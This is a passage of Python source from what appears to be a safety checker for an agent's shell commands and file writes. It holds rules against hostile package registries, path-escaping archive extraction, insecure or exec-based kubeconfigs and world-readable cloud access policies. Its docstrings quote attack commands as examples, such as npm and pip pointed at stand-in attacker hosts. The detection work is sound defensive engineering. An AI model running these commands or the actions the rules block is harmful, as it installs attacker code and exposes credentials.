            if tool_of(path) is None and kind is None and not path.lower().endswith(
                    ("package.json", "composer.json", "requirements.txt", "pip.conf", "pip.ini", "uv.toml", ".pypirc",
                     ".condarc", ".gemrc", "nuget.config", ".in")):
                continue
            text = _text_of(cmd, analysis)
            if not text.strip():
                continue
            if kind in ("tool settings", "build hook", "package manifest", "agent config", "editor config") and \
                    (commands := later_commands(kind, path, text)).strip():
                block, _ = _judge_shell(ctx, commands)
                if block is not None:
                    return f"writes {path}, a tool's settings that run later: {block.reason}", None
            block_reason, confirm_reason = _config_verdict(path, text)
            if block_reason is not None:
                return block_reason, None
            confirm = confirm or confirm_reason
    return None, confirm


@rule("block.shell.tool-config", "a tool's settings written from the shell to run what the shell rules block",
      risk=Risk.CRITICAL, types=("shell", "type"), needs="line")
def shell_tool_config_block(ctx: Context) -> CheckResult:
    """`echo`, `printf`, `tee` or a here-document writing a developer tool's settings (`.npmrc`, `.yarnrc.yml`,
    `.pre-commit-config.yaml`, a Terraform file, `.cargo/config.toml`, `requirements.txt`...) with a command the
    shell rules block, or a package source on a host named as hostile: as the same file written directly."""
    return ctx.derived(_shell_config)[0]


@rule("confirm.shell.tool-config", "a tool's settings written from the shell to run a command or fetch elsewhere",
      risk=Risk.HIGH, types=("shell", "type"), needs="line")
def shell_tool_config(ctx: Context) -> CheckResult:
    """The same shell writes of settings that make a tool run a command or load code at its next run, or take its
    packages from a host other than the ecosystem's own (`confirm.files.tool-runs-command`)."""
    block, confirm = ctx.derived(_shell_config)
    return None if block is not None else confirm


_PACKAGE_MANAGERS = frozenset({"npm", "pnpm", "yarn", "bun", "npx", "pip", "pip3", "uv", "uvx", "pipx", "poetry",
                               "pdm", "conda", "mamba", "micromamba", "gem", "bundle", "cargo", "composer", "nuget",
                               "dotnet", "go", "deno", "python", "python3"})
_SOURCE_OPTION = re.compile(r"^(?:--(?:extra-)?index(?:-url)?|--registry|--find-links|-i|-f|--source|-s|--add-source|"
                            r"--channel|-c|--default-index)(?:=|$)|(?:registry|index-url|index_url|registryserver|"
                            r"extra-index-url|source|mirror|goproxy)$", re.IGNORECASE)


def _hostile_manager_source(ctx: Context) -> str | None:
    """A package manager told, on its command line, to take packages from a host named as hostile."""

    analysis = ctx.derived(command_facts)
    if analysis is None or "://" not in analysis.source:
        return None
    for cmd in analysis.commands:
        if cmd.name not in _PACKAGE_MANAGERS:
            continue
        words = cmd.argv[1:]
        for k, word in enumerate(words):
            key = word.split("=", 1)[0] if word.startswith("-") else word.rsplit(".", 1)[-1]
            if not _SOURCE_OPTION.search(key):
                continue
            value = word.split("=", 1)[1] if "=" in word else (words[k + 1] if k + 1 < len(words) else "")
            for url, host in unofficial_sources(value):
                if (why := hostile_host(host)) is not None:
                    return f"{cmd.name} takes its packages from {url[:60]}, a host named as hostile ({why}): what it " \
                           f"installs there runs as the person"
    return None


@rule("block.shell.hostile-package-source", "a package manager pointed at a hostile host", risk=Risk.CRITICAL,
      types=("shell", "type"), needs="address")
def hostile_manager_source(ctx: Context) -> CheckResult:
    """A package manager's registry or index set, or an install run, against a host named as an attacker's
    (`npm config set registry https://npm.evil.com/`, `pip install -i https://attacker.example/simple x`, `yarn
    config set npmRegistryServer ...`): every package it takes from there runs its install code. Another registry
    on an ordinary host asks as an install from another source does."""
    return _hostile_manager_source(ctx)


_TAR_NAMES = frozenset({"tar", "gtar", "bsdtar", "gnutar"})
_TAR_ABSOLUTE = re.compile(r"^-[a-z]*P[a-z]*$")


def _archive_escape(ctx: Context) -> str | None:

    analysis = ctx.derived(command_facts)
    if analysis is None:
        return None
    for cmd in analysis.commands:
        argv = cmd.argv
        if cmd.name in _TAR_NAMES:
            first = argv[1] if len(argv) > 1 else ""
            bundled = first if first and not first.startswith("-") else ""
            extract = "x" in bundled or any(a in ("-x", "--extract", "--get") or (_TAR_ABSOLUTE.match(a) and "x" in a)
                                            or (a.startswith("-") and not a.startswith("--") and "x" in a)
                                            for a in argv[1:])
            absolute = "P" in bundled or any(a in ("-P", "--absolute-names", "--absolute-paths") or
                                             bool(_TAR_ABSOLUTE.match(a)) for a in argv[1:])
            if extract and absolute:
                return f"{cmd.name} extracts with absolute names and `..` kept: the archive's members land wherever " \
                       f"they say, outside the folder (a startup file, a key, a program on PATH)"
        elif cmd.name == "unzip" and any(a == "-:" or (a.startswith("-") and ":" in a and len(a) < 8)
                                         for a in argv[1:]):
            return "unzip -: keeps `../` in member names: the archive's files land outside the folder it is " \
                   "unpacked in"
        elif cmd.name in ("7z", "7za", "7zz") and len(argv) > 1 and argv[1].lower() == "x" and \
                any(a.lower().startswith("-spf") for a in argv[2:]):
            return f"{cmd.name} -spf extracts with the absolute paths stored in the archive: its files land " \
                   f"wherever they say"
    return None


@rule("confirm.shell.archive-escape", "an archive extracted with its paths allowed outside the folder",
      risk=Risk.HIGH, types=("shell", "type"), needs="line")
def archive_escape(ctx: Context) -> CheckResult:
    """An archive extracted with the switch that keeps absolute member names and `..` (tar `-P`/`--absolute-names`,
    bsdtar `-P`, `unzip -:`, `7z x -spf`): a crafted archive then writes a shell startup file, a key or a program on
    PATH anywhere the person can write (a zip slip). A plain `tar xf` or `unzip` strips such names and passes."""
    return _archive_escape(ctx)



# -- a cluster login or a cloud access policy written as a file -----------------------------------------------------

_KUBECONFIG = re.compile(r"^\s*kind:\s*[\"']?Config\b", re.MULTILINE)
_KUBE_CLUSTERS = re.compile(r"^\s*(clusters|users|contexts):", re.MULTILINE)
_KUBE_INSECURE = re.compile(r"^\s*-?\s*insecure-skip-tls-verify:\s*[\"']?(true|yes|on)\b",
                            re.MULTILINE | re.IGNORECASE)
_KUBE_SERVER = re.compile(r"^\s*-?\s*server:\s*[\"']?https?://(\[[^\]]+\]|[^/:\s\"']+)",
                          re.MULTILINE | re.IGNORECASE)
_KUBE_EXEC = re.compile(r"^\s*-?\s*(exec:\s*$|exec:\s*\{|command:|cmd-path:)", re.MULTILINE)
_LOCAL_SERVER = re.compile(r"^(localhost|127\.|0\.0\.0\.0$|::1$|kubernetes\.default|host\.docker\.internal$)",
                           re.IGNORECASE)
# folders anyone may write to: a login left there is picked up by whoever points a client at it
_SHARED_FOLDER = re.compile(r"^(/tmp|/var/tmp|/dev/shm|/private/tmp|/private/var/tmp|/users/shared)/", re.IGNORECASE)


def _kubeconfig(ctx: Context) -> tuple[str, str] | None:
    """(path, what is wrong) for a kubeconfig written with its server's certificate unchecked, or one that runs a
    program to log in; None otherwise."""
    content = getattr(ctx.action, "content", None) or ""
    f = _facts(ctx)
    if f is None or not _KUBECONFIG.search(content[:20_000]) or not _KUBE_CLUSTERS.search(content[:20_000]):
        return None
    text = content[:20_000]
    servers = [m.group(1).strip("[]") for m in _KUBE_SERVER.finditer(text)]
    remote = [h for h in servers if not _LOCAL_SERVER.match(h)]
    if _KUBE_INSECURE.search(text) and remote:
        return f.real, f"a cluster login for {remote[0]} with its certificate unchecked"
    if _KUBE_EXEC.search(text):
        return f.real, "a cluster login that runs a program to sign in (an exec or auth-provider command)"
    return None


@rule("block.files.shared-kubeconfig", "a cluster login with its certificate unchecked left in a shared folder",
      risk=Risk.CRITICAL, types=("file_write",))
def shared_kubeconfig(ctx: Context) -> CheckResult:
    """A kubeconfig written into a folder anyone may write to (`/tmp`, `/dev/shm`) that sends its credentials to
    a remote API server whose certificate is not checked: a login planted for `--kubeconfig` to pick up, which hands
    whatever token it holds, or the person's, to a server nobody verified."""
    found = _kubeconfig(ctx)
    if found is None or not _SHARED_FOLDER.match(found[0]) or "unchecked" not in found[1]:
        return None
    return f"writing {found[0]}: {found[1]}, in a folder anyone may write to"


@rule("confirm.files.kubeconfig-trust", "a cluster login written that skips the certificate check or runs a program",
      risk=Risk.HIGH, types=("file_write",))
def kubeconfig_trust(ctx: Context) -> CheckResult:
    """A kubeconfig written with `insecure-skip-tls-verify: true` for a remote server (its credentials go to
    whoever answers), or with an `exec` or `auth-provider` command (a program that runs each time a client signs
    in): a person decides. A local cluster's login with the check off passes."""
    found = _kubeconfig(ctx)
    if found is None or (_SHARED_FOLDER.match(found[0]) and "unchecked" in found[1]):
        return None  # (the block above)
    return f"writing {found[0]}: {found[1]}"


# an access policy that names everyone: Google Cloud's allUsers / allAuthenticatedUsers members, a principal `*` in
# AWS's policy grammar
_PUBLIC_MEMBER = re.compile(r"[\"'\s:,\[]all(authenticated)?users[\"'\s,\]]|"
                            r"\"principal\"\s*:\s*(\"\*\"|\{\s*\"aws\"\s*:\s*(\"\*\"|\[\s*\"\*\"\s*\]))", re.IGNORECASE)
_POLICY_DOC = re.compile(r"\"(bindings|statement)\"\s*:|^\s*(bindings|statement):", re.IGNORECASE | re.MULTILINE)
_ALLOW = re.compile(r"\"effect\"\s*:\s*\"allow\"|\"members\"|^\s*-?\s*members:", re.IGNORECASE | re.MULTILINE)


@rule("confirm.files.public-access-policy", "an access policy written that grants everyone", risk=Risk.HIGH,
      types=("file_write",))
def public_access_policy(ctx: Context) -> CheckResult:
    """An IAM or bucket policy document (`bindings` with `allUsers` or `allAuthenticatedUsers` members, a
    `Statement` that allows principal `*`) written to a file: the input of `gsutil iam set`, `gcloud ...
    set-iam-policy` or `aws s3api put-bucket-policy`, which makes the resource readable by anyone on the
    internet. A person decides before the file is written."""
    content = (getattr(ctx.action, "content", None) or "")[:20_000]
    if not content or not _POLICY_DOC.search(content) or not _ALLOW.search(content):
        return None
    m = _PUBLIC_MEMBER.search(content)
    if m is None:
        return None
    who = "principal *" if "principal" in m.group(0).lower() else m.group(0).strip("\"' ,:[]")
    path = ctx.action.path  # type: ignore[attr-defined]
    return f"writing {path}: an access policy that grants {who} (anyone on the internet)"


RULES: tuple[Rule, ...] = (
    invalid_path,
    credential_read,
    supervisor_tamper,
    supervisor_read,
    malicious_persistence,
    sensitive_read,
    sensitive_write,
    sensitive_write_inside,
    runs_later,
    dropped_program,
    system_dir,
    log_tamper,
    system_config,
    delete_root,
    outside_sandbox,
    traversal,
    symlink_escape,
    hostile_package_source,
    tool_runs_command,
    ci_env_poisoning,
    ci_env_hook,
    shell_tool_config_block,
    shell_tool_config,
    archive_escape,
    hostile_manager_source,
    shared_kubeconfig,
    kubeconfig_trust,
    public_access_policy,
)
